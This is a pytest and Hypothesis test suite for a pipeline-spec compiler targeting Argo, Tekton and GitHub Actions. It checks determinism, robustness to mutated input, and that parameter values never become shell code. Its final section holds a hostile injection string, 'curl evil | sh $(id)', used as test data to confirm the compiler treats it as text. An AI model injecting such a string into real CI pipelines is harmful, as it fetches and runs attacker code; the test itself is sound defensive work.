"""Properties over generated specs: valid ones compile everywhere, deterministically, to output the
engines' schemas accept; mutated ones never crash the compiler."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import validators
from shipspec.compiler.cli import TARGETS, compile_one, main
from shipspec.compiler.diagnostics import has_errors

TRICKY_TEXT = st.sampled_from(["main", "{{ x }}", "$(params.y)", "${{ github.sha }}", "it's", 'say "hi"',
                               "a\nb", "100", "true", "", "~~{ lit }", "$HOME", "`id`"])
# GitHub cannot hold `${{` in a workflow_dispatch default (a documented SS501), so defaults leave it out
DEFAULT_TEXT = TRICKY_TEXT.filter(lambda t: "${{" not in t)
PARAM_TYPES = {"string": DEFAULT_TEXT, "bool": st.booleans(), "int": st.integers(0, 10_000)}


@st.composite
def specs(draw: st.DrawFn) -> dict[str, Any]:
    params = _params(draw)
    tasks: list[dict[str, Any]] = []
    for i in range(draw(st.integers(1, 7))):
        tasks.append(_task(draw, i, tasks, params))
    body: dict[str, Any] = {"params": params, "tasks": tasks}
    if draw(st.booleans()):
        body["finally"] = [{"name": "report", "image": "alpine:3.20",
                            "run": 'echo "status: ~{ pipeline.status }"'}]
    with_results = [(t["name"], r) for t in tasks for r in t.get("results", [])]
    if with_results and draw(st.booleans()):
        task, result = draw(st.sampled_from(with_results))
        body["results"] = [{"name": "out", "value": f"~{{ tasks.{task}.results.{result} }}"}]
    return {"apiVersion": "shipspec.dev/v1", "kind": "Pipeline", "metadata": {"name": "generated"},
            "spec": body}


def _params(draw: st.DrawFn) -> list[dict[str, Any]]:
    params = []
    for i in range(draw(st.integers(0, 3))):
        kind = draw(st.sampled_from(sorted(PARAM_TYPES)))
        param: dict[str, Any] = {"name": f"p{i}", "type": kind}
        if draw(st.booleans()):
            param["default"] = draw(PARAM_TYPES[kind])
        params.append(param)
    return params


def _task(draw: st.DrawFn, i: int, earlier: list[dict[str, Any]], params: list[dict[str, Any]]) -> dict[str, Any]:
    task: dict[str, Any] = {"name": f"task-{i}", "image": "alpine:3.20"}
    if earlier:
        deps = draw(st.lists(st.sampled_from([t["name"] for t in earlier]), max_size=3, unique=True))
        if deps:
            task["depends"] = deps
    refs = [f"params.{p['name']}" for p in params]
    refs += [f"tasks.{t['name']}.results.{r}" for t in earlier for r in t.get("results", [])]
    env = {f"V{j}": f"~{{ {ref} }}" for j, ref in enumerate(draw(st.lists(st.sampled_from(refs), max_size=3)))} \
        if refs else {}
    if env:
        task["env"] = env
    lines = [f'echo "${v}"' for v in env] or ["echo hello"]
    if draw(st.booleans()):
        task["results"] = ["value"]
        lines.append('printf done > "$SHIPSPEC_RESULTS/value"')
    task["run"] = "\n".join(lines) + "\n"
    condition = _condition(draw, params)
    if condition:
        task["when"] = condition
    if draw(st.integers(0, 5)) == 0:
        task["matrix"] = {"axes": {"shard": [1, 2]}}
        task.pop("results", None)
        task["run"] = 'echo "shard ~{ matrix.shard }"\n'
    return task


def _condition(draw: st.DrawFn, params: list[dict[str, Any]]) -> str | None:
    """Conjunctions only: OR is an error on Tekton, and the property is 'compiles everywhere'."""
    parts = []
    for p in params:
        if not draw(st.booleans()):
            continue
        if p["type"] == "bool":
            parts.append(("!" if draw(st.booleans()) else "") + f"params.{p['name']}")
        elif p["type"] == "int":
            parts.append(f"params.{p['name']} != {draw(st.integers(0, 9))}")
        else:
            parts.append(f"params.{p['name']} in ['a', 'b c']")
    return " && ".join(parts) or None


SETTINGS = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


@SETTINGS
@given(spec=specs())
def test_generated_specs_compile_everywhere_and_deterministically(spec: dict[str, Any], tmp_path: Path) -> None:
    text = json.dumps(spec, indent=2)  # JSON is YAML
    texts, diagnostics = compile_one(text, "generated.yaml", TARGETS)
    assert not has_errors(diagnostics), diagnostics
    assert sorted(texts) == sorted(TARGETS)
    again, _ = compile_one(text, "generated.yaml", TARGETS)
    assert again == texts
    for target, check in (("argo", validators.argo_schema), ("tekton", validators.tekton_schema)):
        path = tmp_path / f"{target}.yaml"
        path.write_text(texts[target])
        assert check(path) == [], texts[target]


MUTATIONS = st.sampled_from(["delete", "insert", "duplicate-line", "swap-lines", "retype"])


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(spec=specs(), how=MUTATIONS, where=st.integers(0, 10_000),
       junk=st.sampled_from([":", "-", "{", "}", "[", "'", '"', "~{", "&a", "*a", "!!int", "\t", "\x00", "\u00e9",
                             "  ", "\n", "#", "|", "?"]))
def test_mutated_specs_never_crash(spec: dict[str, Any], how: str, where: int, junk: str, tmp_path: Path,
                                   capsys: pytest.CaptureFixture[str]) -> None:
    text = _mutate(_to_yaml(spec), how, where, junk)
    path = tmp_path / "mutated.yaml"
    path.write_bytes(text.encode("utf-8", "surrogatepass"))
    code = main(["validate", str(path), "--target", "argo", "--target", "tekton", "--target", "github"])
    output = capsys.readouterr()
    assert code in (0, 1), output.err
    assert "internal error" not in output.err and "Traceback" not in output.err


def _to_yaml(spec: dict[str, Any]) -> str:
    import io

    from ruamel.yaml import YAML

    out = io.StringIO()
    YAML(typ="safe", pure=True).dump(spec, out)
    return out.getvalue()


def _mutate(text: str, how: str, where: int, junk: str) -> str:
    lines = text.split("\n")
    i = where % max(1, len(text))
    n = where % max(1, len(lines))
    if how == "delete":
        return text[:i] + text[i + 1:]
    if how == "insert":
        return text[:i] + junk + text[i:]
    if how == "duplicate-line":
        return "\n".join(lines[: n + 1] + lines[n:])
    if how == "swap-lines":
        m = (n + 1) % len(lines)
        lines[n], lines[m] = lines[m], lines[n]
        return "\n".join(lines)
    key, sep, _ = lines[n].partition(": ")
    return "\n".join(lines[:n] + [f"{key}{sep or ': '}{junk}"] + lines[n + 1:])


def test_generated_github_workflows_pass_githubs_own_checkers(tmp_path: Path) -> None:
    """The GitHub judges are Node tools (~1 s to start), so generate first and judge in one batch."""
    files: list[Path] = []

    @settings(max_examples=25, deadline=None, database=None)
    @given(spec=specs())
    def generate(spec: dict[str, Any]) -> None:
        texts, diagnostics = compile_one(json.dumps(spec), "generated.yaml", ("github",))
        assert "github" in texts, diagnostics
        path = tmp_path / f"generated-{len(files)}.yaml"
        path.write_text(texts["github"])
        files.append(path)

    generate()
    for judge in (validators.actionlint, validators.workflow_parser, validators.zizmor):
        problems = {p: found for p, found in judge(files).items() if found}
        assert problems == {}, problems


# --- no placement of a reference splices its value into code ------------------------------------

SHELL_FORMS = st.sampled_from([
    (["sh", "-c"], []), (["/bin/bash"], ["-ec"]), (["bash", "-o", "pipefail", "-c"], []),
    (["env", "A=1", "sh"], ["-c"]), (["busybox", "ash", "-xc"], []), ([], ["sh", "-e", "-c"]),
    (["timeout", "60", "dash", "-c"], []),
])
REFERENCES = st.sampled_from(["params.text", "params.flag", "run.name", "run.id", "tasks.first.results.out",
                              # values from an event: untrusted, and params the Kubernetes backends declare
                              "run.ref_name", "run.pr_head_ref", "run.actor", "run.sha", "run.short_sha"])


@st.composite
def spliced_specs(draw: st.DrawFn) -> dict[str, Any]:
    """A spec whose second task puts references in a shell's `-c` script, its operands, env and run."""
    ref = draw(REFERENCES)
    command, args = draw(SHELL_FORMS)
    script = draw(st.sampled_from(['echo "~{ REF }"', "echo ~{ REF } | wc -c", 'x="pre~{ REF }post"; echo "$x"']))
    script = script.replace("REF", ref)
    operands = draw(st.sampled_from([[], ["sh", "~{ " + ref + " }"]]))
    second: dict[str, Any] = {"name": "second", "image": "alpine:3.20", "command": command or args[:1]}
    second["args"] = (args if command else args[1:]) + [script] + operands
    if draw(st.booleans()):
        second["env"] = {"EXTRA": f"~{{ {ref} }}"}
    third = {"name": "third", "image": "alpine:3.20", "run": f'echo "~{{ {ref} }}"\n'}
    first = {"name": "first", "image": "alpine:3.20", "results": ["out"], "run": 'printf x > "$SHIPSPEC_RESULTS/out"\n'}
    params = [{"name": "text", "default": draw(DEFAULT_TEXT)}, {"name": "flag", "type": "bool", "default": True}]
    return {"apiVersion": "shipspec.dev/v1", "kind": "Pipeline", "metadata": {"name": "spliced"},
            "spec": {"params": params, "tasks": [first, second, third]}}


ENGINE_REFERENCE = {"argo": re.compile(r"\{\{"), "github": re.compile(r"\$\{\{"),
                    "tekton": re.compile(r"\$\((params|tasks|context|steps|finally|workspaces)[.\[]")}


def _code_texts(target: str, document: Any) -> list[str]:
    """Every text an interpreter parses: scripts, `run:` steps and the script item of a shell argv."""
    from shipspec.compiler import argv

    found: list[str] = []

    def visit(node: Any) -> None:
        if isinstance(node, dict):
            for key in ("script", "source", "run"):
                if isinstance(node.get(key), str):
                    found.append(node[key])
            words = [*node.get("command", []), *node.get("args", [])]
            if words and all(isinstance(w, str) for w in words):
                code = argv.find_code(words)
                if code is not None:
                    found.append(words[code.index])
            for value in node.values():
                visit(value)
        elif isinstance(node, list):
            for item in node:
                visit(item)

    visit(document)
    return found


@SETTINGS
@given(spec=spliced_specs())
def test_no_reference_is_spliced_into_code(spec: dict[str, Any]) -> None:
    import yaml

    texts, diagnostics = compile_one(json.dumps(spec), "spliced.yaml", TARGETS)
    assert sorted(texts) == sorted(TARGETS), diagnostics
    for target, text in texts.items():
        for document in yaml.safe_load_all(text):
            for code in _code_texts(target, document):
                assert not ENGINE_REFERENCE[target].search(code), (target, code)


# --- the fields of the platform and reuse issues: a hostile value stays text -------------------

HOSTILE = "x; curl evil | sh $(id) {{x}} `id` $HOME"
HOSTILE_SPEC = """\
apiVersion: shipspec.dev/v1
kind: Pipeline
metadata:
  name: hostile
spec:
  params:
    - name: text
      default: @HOSTILE@
  defaults:
    env:
      FROM_DEFAULTS: ~{ params.text }
  tasks:
    - name: source
      uses: checkout
      with:
        ref: ~{ params.text }
    - name: steps
      image: alpine:3.20
      consumes: [{artifact: source}]
      steps:
        - name: script
          env: {STEP: "~{ params.text }"}
          run: echo "~{ params.text }" "$STEP" "$FROM_DEFAULTS"
        - name: argv
          command: [sh, -c, 'echo "~{ params.text }"']
    - name: native
      uses:
        github:
          action: actions/setup-go@b7ad1dad31e06c5925ef5d2fc7ad053ef454303e
          with: {go-version: "~{ params.text }"}
        tekton: {resolver: cluster, resource: {kind: task, name: t}, params: {v: "~{ params.text }"}}
        argo: {name: wt, template: t, arguments: {v: "~{ params.text }"}}
    - name: version
      uses: version
      with: {base: "~{ params.text }"}
    - name: image
      uses: image
      with: {image: ghcr.io/x/y, tags: ["~{ params.text }"]}
      consumes: [{artifact: source}]
  finally:
    - name: notify
      uses: notify
      with: {webhook: {secret: s, key: k}, title: "~{ params.text }"}
"""


@pytest.mark.parametrize("hostile", [HOSTILE, HOSTILE + " ${{ x }}"])
def test_a_hostile_value_in_the_new_fields_stays_text_on_every_engine(hostile: str) -> None:
    """In a checkout's ref, steps (script, env, argv), task defaults, native inputs and block inputs, a
    value with shell and engine syntax is never part of code: it is written only as the param's default
    (GitHub declares it for dispatch and for call), and reaches each place through the engine's own
    value mechanism (env, inputs, params)."""
    import yaml

    targets = TARGETS if "${{" not in hostile else ("argo", "tekton")  # GitHub refuses `${{` in a default
    spec = HOSTILE_SPEC.replace("@HOSTILE@", json.dumps(hostile))
    texts, diagnostics = compile_one(spec, "hostile.yaml", targets)
    assert sorted(texts) == sorted(targets), diagnostics
    for target in targets:
        lines = [line.strip() for line in texts[target].splitlines() if "curl evil" in line]
        assert lines and all(line.startswith(("default: ", "value: ")) for line in lines), (target, lines)
        documents = list(yaml.safe_load_all(texts[target]))
        assert hostile in json.dumps(documents), target  # and exactly as written
        for document in documents:
            for code in _code_texts(target, document):
                assert not ENGINE_REFERENCE[target].search(code), (target, code)
                assert "curl evil" not in code and "$(id)" not in code, (target, code)
